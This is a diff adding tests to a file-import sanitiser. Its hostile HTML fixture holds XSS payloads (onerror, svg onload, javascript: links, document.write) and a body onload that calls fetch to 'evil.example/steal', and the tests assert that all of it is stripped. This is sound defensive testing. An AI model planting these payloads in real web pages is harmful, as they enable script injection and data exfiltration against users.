@@ -163,3 +163,30 @@ describe('oversized input at the API boundary', () => {
     expect(result).toMatchObject({ ok: false, error: { code: 'too_large', message: expect.stringMatching(/50 MB/) } });
   });
 });
+
+describe('hostile files', () => {
+  it('an HTML page full of active content yields only its words', async () => {
+    const hostile = `<!doctype html><html><head>
+      <meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
+      <link rel="preload" href="https://evil.example/x.js"><style>body{background:url(https://evil.example/bg.png)}</style>
+      <script>document.write('<img src=https://evil.example/p.gif>')</script><noscript><img src="https://evil.example/n.gif"></noscript>
+      </head><body onload="fetch('https://evil.example/steal')">
+      <article><h1>Witness account</h1>
+      <p>The <a href="javascript:alert(1)">men</a> arrived at dawn <img src="x" onerror="alert(1)" srcset="https://evil.example/s.png 2x">and asked about the sect.</p>
+      <p>Residents fled <svg onload="alert(1)"><script>alert(2)</script></svg>to the hills.<object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e.swf"></p>
+      <form action="https://evil.example/post"><input name="q" value="typed secret"></form>
+      <template><p>hidden template text</p></template>
+      </article></body></html>`;
+    const { article } = await importOk('hostile.html', Buffer.from(hostile));
+    expect(article.text).toContain('The men arrived at dawn and asked about the sect.');
+    expect(article.text).toContain('Residents fled to the hills.');
+    for (const bad of ['evil.example', 'alert', 'fetch', 'document.write', 'javascript', 'typed secret', 'hidden template', 'background', 'onload']) {
+      expect(article.text).not.toContain(bad);
+    }
+  });
+
+  it('invalid UTF-8 in a text file is refused, not silently mangled', async () => {
+    const r = await importBytes('latin1.txt', Buffer.from([0x43, 0x61, 0x66, 0xe9, 0x20, 0x6f, 0x6b]));
+    expect(r).toMatchObject({ ok: false, error: { code: 'invalid_input', message: expect.stringMatching(/not UTF-8 text/) } });
+  });
+});
